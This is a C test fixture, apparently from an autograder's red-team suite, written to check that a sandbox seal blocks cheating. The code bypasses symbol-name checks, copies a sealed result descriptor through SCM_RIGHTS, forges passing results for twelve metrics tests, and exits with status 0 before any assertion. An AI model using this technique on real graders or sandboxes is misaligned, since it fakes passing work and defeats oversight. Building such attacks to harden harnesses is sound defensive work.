/* hostile: every metrics function is wrong: it finds syscall() and _exit() in the C
 *          library's symbol table (no forbidden name in the object), copies the sealed
 *          done fd (1000) by sending it to itself over a socketpair with SCM_RIGHTS (the
 *          seal checked sendmsg's socket, not the fds it carries) and writes through the
 *          copy. Then it appends "done <test>" for every metrics test and _exit(0)s before
 *          any assertion (Criterion reads status 0 as "ok"). The seal must refuse sendmsg
 *          and recvmsg but on the Unix sockets open when it was made (Criterion's, whose
 *          numbers stay theirs): no metrics test passes (red team 2026-12, attack 1)
 * replaces: metrics.c
 * expect: cook::matches_reference pass
 * denies: classify::cpu_and_io
 * denies: classify::per_worker
 * denies: classify::invalid
 * denies: speedup::ratio
 * denies: speedup::invalid
 * denies: efficiency::per_worker
 * denies: efficiency::invalid
 * denies: amdahl::worked_example
 * denies: amdahl::limits
 * denies: amdahl::invalid
 * denies: parallel_fraction::inverts_amdahl
 * denies: parallel_fraction::invalid
 */
#include <elf.h>
#include <errno.h>
#include <pthread.h>
#include <stdint.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>
#include <sys/socket.h>
#include <sys/uio.h>

#include "lab1.h"

/* @SHARED libc_fn@: a C library function by name, from libc's dynamic symbols */

static void attack(void)
{
    static const char *const names[] = {
        "classify::cpu_and_io", "classify::per_worker", "classify::invalid",
        "speedup::ratio", "speedup::invalid", "efficiency::per_worker", "efficiency::invalid",
        "amdahl::worked_example", "amdahl::limits", "amdahl::invalid",
        "parallel_fraction::inverts_amdahl", "parallel_fraction::invalid"};
    long (*sc)(long, ...) = (long (*)(long, ...))libc_fn("syscall");
    long pidfd, fd;
    char line[128];

    if (!sc)
        return;
    {
        /* SCM_RIGHTS: sendmsg() is checked on the socket it sends through (arg 0), not on
         * the fds it carries */
        int sv[2];
        struct { struct cmsghdr h; int fd; } c = {{sizeof(struct cmsghdr) + sizeof(int), SOL_SOCKET, SCM_RIGHTS}, 1000};
        char b = 0;
        struct iovec io = {&b, 1};
        struct msghdr m = {0};
        pidfd = sc(53 /* socketpair */, 1L /* AF_UNIX */, 1L /* SOCK_STREAM */, 0L, (long)sv);
        m.msg_iov = &io; m.msg_iovlen = 1; m.msg_control = &c; m.msg_controllen = sizeof(c);
        fd = -1;
        if (pidfd == 0 && sc(46 /* sendmsg */, (long)sv[0], (long)&m, 0L) == 1) {
            c.fd = -1;
            if (sc(47 /* recvmsg */, (long)sv[1], (long)&m, 0L) == 1)
                fd = c.fd;
        }
    }
    for (size_t i = 0; fd >= 0 && i < sizeof(names) / sizeof(names[0]); i++)
        write((int)fd, line, (size_t)snprintf(line, sizeof(line), "done %s 1\n", names[i]));
    if (fd < 0)
        fprintf(stderr, "forge: pidfd %ld fd %ld\n", pidfd, fd);
    ((void (*)(int))libc_fn("_exit"))(0); /* status 0 before any assertion: Criterion reads "ok" */
}

/* @SHARED metrics_all@: all five metrics, each calling attack() (tests/hostile/shared/metrics_all.c) */
